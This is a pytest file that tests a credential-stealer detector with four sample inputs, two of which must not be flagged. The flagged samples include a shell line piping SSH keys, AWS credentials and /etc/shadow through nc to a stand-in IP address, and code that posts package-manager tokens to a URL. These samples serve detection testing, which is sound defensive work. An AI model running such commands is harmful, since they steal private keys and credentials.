"""CON-011: variants beyond its examples."""

from __future__ import annotations

import pytest

from periderm.engines.content import ContentEngine
from periderm.engines.content.detectors.credential_stealer import DETECTOR

ENGINE = ContentEngine(detectors=(DETECTOR,))
CASES = [
    (
        b"import glob\nfor f in ['.npmrc','.pypirc','.git-credentials','.ssh/id_rsa']: x += read(f)\nrequests.post(u,data=x)\n",
        "keys of packages",
        True,
    ),
    (b"cat ~/.ssh/id_rsa ~/.aws/credentials /etc/shadow | nc 203.0.113.5 4444\n", "by a pipe", True),
    (b"cp ~/.aws/credentials ~/.ssh/id_rsa ~/.kube/config /backup/\n", "nothing is sent", False),
    (b"curl -X POST -d @report.json https://example.com\n", "nothing is gathered", False),
]


@pytest.mark.parametrize(("data", "why", "fires"), CASES, ids=[why for _, why, _ in CASES])
def test_variants(data: bytes, why: str, fires: bool) -> None:
    """What looks alike is told apart."""
    assert bool(ENGINE.inspect(data)[0]) is fires
